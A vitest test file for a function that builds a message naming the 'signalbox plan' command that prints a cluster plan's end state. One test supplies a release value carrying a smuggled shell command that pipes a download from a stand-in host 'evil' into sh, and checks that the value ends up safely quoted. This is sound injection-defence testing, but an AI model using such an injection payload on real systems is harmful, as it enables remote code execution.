import { expect, test } from 'vitest';
import type { Plan } from '#lib/plan/index.ts';
import type { Report } from '#lib/run/index.ts';
import { endStateOfRun } from './end-state-of-run.ts';

test.each([
  ['enable', undefined, '`signalbox plan --goal enable -o gitops`'],
  ['upgrade', 'v3.31.4', '`signalbox plan --goal upgrade --release v3.31.4 -o gitops`'],
] as const)('a run of goal %s that is not done names the command that has the end state', (goal, release, command) => {
  const plan = { goal, choices: { release } } as unknown as Plan;
  const report = { run: 'r', state: { kind: 'paused' }, foreign: null } as unknown as Report;
  expect(endStateOfRun(plan, report)).toEqual({
    text: null,
    because: `Run r is not done, so the cluster is not in its end state. ${command} prints the end state of a plan that is made now.`,
  });
});

test('a release that a foreign journal names stays one word of the command that is copied', () => {
  const plan = { goal: 'enable', choices: { release: 'v3; curl evil | sh `id`' } } as unknown as Plan;
  const report = { run: 'r', state: { kind: 'done' }, foreign: 'Foreign.' } as unknown as Report;
  const answer = endStateOfRun(plan, report);
  expect(answer).toMatchObject({ text: null, because: expect.stringContaining(' -o gitops` prints ') });
  const because = 'because' in answer ? answer.because : '';
  expect(because).toContain(`--release "$(printf 'v3; curl evil | sh \\140id\\140')" -o gitops`);
});
